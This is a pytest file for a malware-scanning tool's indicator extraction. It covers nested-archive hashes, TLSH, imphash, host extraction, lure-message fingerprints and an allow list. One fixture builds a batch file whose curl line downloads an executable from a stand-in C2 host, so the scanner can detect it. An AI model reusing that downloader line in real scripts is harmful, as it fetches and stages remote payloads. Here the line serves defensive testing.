"""Indicators of one report: hashes at every depth, TLSH, imphash, hosts, lure fingerprints."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import _sim

from filewall.engine import ScanOptions, scan_bytes
from filewall.limits import Limits
from filewall.platform.correlate import AllowList
from filewall.platform.indicators import ReportIndicators, from_report, lure_fingerprint, tlsh_hook

NOW = dt.datetime(2026, 11, 25, tzinfo=dt.UTC)


def _zip(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def test_every_depth_tlsh_imphash_hosts(pe_bytes):
    inner = _zip(
        [
            ("报价.exe", pe_bytes),
            ("run.bat", b"@echo off\r\ncurl http://c2.example.invalid/g.php -o a.exe\r\n"),
        ]
    )
    outer = _zip([("inner.zip", inner)])
    report = scan_bytes(
        outer, "订单.zip", ScanOptions(limits=Limits.from_env({}), on_node=tlsh_hook())
    ).to_dict()
    record = from_report(report, report_id="r1", shop_id="s1", seen_at=NOW, sender="  TB_Buyer ")
    depths = {item.depth for item in record.files}
    assert depths == {0, 1, 2}
    exe = next(item for item in record.files if item.name == "报价.exe")
    assert exe.tlsh and exe.tlsh.startswith("T1") and exe.imphash == "c51d659b4b1142d4af3795d09f1d63f7"
    assert ("domain", "c2.example.invalid") in record.values
    assert ("url", "http://c2.example.invalid/g.php") in record.values
    assert ("sender", "tb_buyer") in record.values
    assert ("imphash", exe.imphash) in record.values
    # The launcher's FileVersion 1.1.0.14 is not an IP anyone connects to.
    assert not any(kind == "ip" for kind, _ in record.values)
    # Archives are not compared by TLSH (they measure the compression); the exe is.
    assert [sha for sha, _ in record.tlsh_digests()] == [exe.sha256]
    assert record.of_interest
    again = ReportIndicators.from_dict(record.to_dict())
    assert again.values == record.values and again.files == record.files


def test_lure_near_duplicates():
    a = lure_fingerprint(_sim.LURE.format(pwd=1234, order=9876543210))
    retyped = lure_fingerprint(_sim.LURE_TRAD.format(pwd=8866, order=1111).replace("，", "， "))
    other = lure_fingerprint(_sim.POLITE.format(order=123456))
    # (0.73: the chat folding table lacks a few of these traditional characters, 貴頻煩訴.)
    assert a.similarity(retyped) >= 0.6
    assert a.similarity(other) < 0.2
    assert lure_fingerprint("你好在吗") is None  # too short to call it a script
    assert "解压密码是#" in a.text


def test_allow_list():
    allow = AllowList()
    assert allow.allows("domain", "www.example.com") and allow.allows("url", "https://img.alicdn.com/x.jpg")
    assert not allow.allows("domain", "c2.example.invalid")
    allow.add_line("sha256 " + "A" * 64 + "  # reviewed")
    assert allow.allows("sha256", "a" * 64)
